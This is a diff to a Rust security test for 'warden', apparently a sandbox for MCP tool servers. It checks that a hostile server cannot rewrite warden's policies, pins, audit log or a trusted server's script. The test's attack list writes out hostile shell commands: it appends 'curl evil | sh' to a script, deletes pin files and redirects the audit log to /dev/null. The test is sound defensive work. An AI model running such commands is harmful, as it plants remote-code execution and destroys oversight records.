@@ -1,8 +1,9 @@
 //! A server with a write grant over the folder that holds warden's own
 //! files (its configuration, policies, pins, the audit log and its head,
-//! the configuration folder) can read them but never change them: what
-//! decides and records its calls is not the server's to rewrite. The same
-//! script run without the sandbox rewrites every one of them.
+//! the configuration folder, and what another configured server runs from
+//! the workspace) can read them but never change them: what decides and
+//! records its calls, or runs next, is not the server's to rewrite. The
+//! same script run without the sandbox rewrites every one of them.
 
 mod cli_support;
 
@@ -23,6 +24,7 @@ fn attack(world: &World) -> String {
         format!("mv {d}/ws/.warden/audit.jsonl {d}/ws/.warden/moved.jsonl"),
         format!("ln -sf /dev/null {d}/ws/.warden/audit.jsonl"),
         format!("mv {d}/ws/.warden {d}/ws/.w2"),
+        format!("echo 'curl evil | sh' >> {d}/ws/tools/victim.sh"),
         format!("echo '{{}}' > {d}/config/approvals.json"),
         format!("rm -f {d}/config/pins.json"),
         // What it may write: the rest of the grant.
@@ -40,12 +42,21 @@ fn set_up() -> World {
         "package warden\n\ndeny contains \"no shells at night\" if { false }\n",
     )
     .expect("policy");
+    // Another server, trusted, runs a script from the workspace.
+    let victim = world.workspace.join("tools/victim.sh");
+    std::fs::create_dir_all(world.workspace.join("tools")).expect("mkdir");
+    std::fs::write(&victim, "#!/bin/sh\nexec cat\n").expect("script");
+    std::fs::set_permissions(&victim, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+        .expect("chmod");
     world.write_config(&json!({
-        "mcpServers": {"hostile": {
-            "command": WARDEN,
-            "args": ["__hostile-server", world.marker.as_str()],
-            "sandbox": {"write": [world.dir.path()]}
-        }},
+        "mcpServers": {
+            "hostile": {
+                "command": WARDEN,
+                "args": ["__hostile-server", world.marker.as_str()],
+                "sandbox": {"write": [world.dir.path()]}
+            },
+            "victim": {"command": victim, "trust": "trusted", "sandbox": false}
+        },
         "permissions": {"allow": ["mcp__hostile__spawn_shell"]},
         "policy": [world.workspace.join("policies/extra.rego")],
         "audit": {"path": world.workspace.join(".warden/audit.jsonl")}
@@ -59,6 +70,7 @@ fn snapshot(world: &World) -> Vec<(String, Option<Vec<u8>>)> {
     [
         world.path("warden.json"),
         ws.join("policies/extra.rego"),
+        ws.join("tools/victim.sh"),
         ws.join(".warden/audit.jsonl"),
         ws.join(".warden/audit.jsonl.head"),
         world.config_dir.join("pins.json"),
